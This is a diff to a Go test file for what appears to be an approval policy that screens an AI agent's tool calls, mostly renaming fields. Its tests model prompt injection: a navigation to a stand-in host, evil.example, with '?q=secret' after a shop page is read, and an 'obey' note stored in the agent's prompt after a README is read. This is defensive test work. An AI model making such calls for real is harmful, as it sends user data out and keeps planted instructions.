@@ -198,7 +198,7 @@ func TestTaintedContextAsksForWhatTakesDataOut(t *testing.T) {
 	shop := "https://shop.example"
 	nav := pageCall("navigate_page", `{"url":"https://evil.example/?q=secret"}`).hosts("evil.example").read(shop)
 	d := wantVerdict(t, nav, VerdictAsk)
-	if !strings.Contains(d.Approval.Why, shop) ||
+	if !strings.Contains(d.Approval.Reason, shop) ||
 		!strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
 		t.Fatalf("%+v", d.Approval)
 	}
@@ -219,8 +219,8 @@ func TestTaintedContextAsksForWhatTakesDataOut(t *testing.T) {
 	wantVerdict(t, typed.hosts("other.example"), VerdictAsk)
 	copied := typed.hosts("shop.example")
 	copied.Description.CopiedFrom = []string{"notes/address.md"}
-	if d := wantVerdict(t, copied, VerdictAsk); !strings.Contains(d.Approval.Why, "notes/address.md") {
-		t.Fatalf("why %q", d.Approval.Why)
+	if d := wantVerdict(t, copied, VerdictAsk); !strings.Contains(d.Approval.Reason, "notes/address.md") {
+		t.Fatalf("why %q", d.Approval.Reason)
 	}
 	wantVerdict(t, pageCall("click_element", `{"annotationId":3}`).hosts("other.example").read(shop), VerdictAllow)
 
@@ -245,21 +245,21 @@ func TestTaintedContextAsksForWhatTakesDataOut(t *testing.T) {
 func TestAsksBeforeStoringInstructionsAfterReadingFile(t *testing.T) {
 	note := baselineCall("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{})
 	wantVerdict(t, note, VerdictAllow)
-	note.Description.Local = []string{"file /home/ana/flat/README.md"}
+	note.Description.LocalSources = []string{"file /home/ana/flat/README.md"}
 	for _, mode := range []Mode{ModeAsk, ModeWorkspace, ModeFull} {
 		t.Run(string(mode), func(t *testing.T) {
-			if d := wantVerdict(t, note.mode(mode), VerdictAsk); !strings.Contains(d.Approval.Why,
+			if d := wantVerdict(t, note.mode(mode), VerdictAsk); !strings.Contains(d.Approval.Reason,
 				"file /home/ana/flat/README.md") {
-				t.Errorf("why %q", d.Approval.Why)
+				t.Errorf("why %q", d.Approval.Reason)
 			}
 		})
 	}
 	wantVerdict(t, note.alone(), VerdictRefuse)
 	look := baselineCall("feedback", "list_notes", `{}`, toolspec.Hints{ReadOnly: true})
-	look.Description.Local = note.Description.Local
+	look.Description.LocalSources = note.Description.LocalSources
 	wantVerdict(t, look, VerdictAllow)
 	other := pageCall("click_element", `{"annotationId":3}`)
-	other.Description.Local = note.Description.Local
+	other.Description.LocalSources = note.Description.LocalSources
 	wantVerdict(t, other, VerdictAllow)
 }
 
@@ -341,8 +341,8 @@ func TestQuestionText(t *testing.T) {
 			if got.Question != want {
 				t.Errorf("got %q, want %q", got.Question, want)
 			}
-			if starts := strings.HasPrefix(want, "Start "); got.InWindow != starts {
-				t.Errorf("%q is for a window only: %v", want, got.InWindow)
+			if starts := strings.HasPrefix(want, "Start "); got.WindowOnly != starts {
+				t.Errorf("%q is for a window only: %v", want, got.WindowOnly)
 			}
 		})
 	}
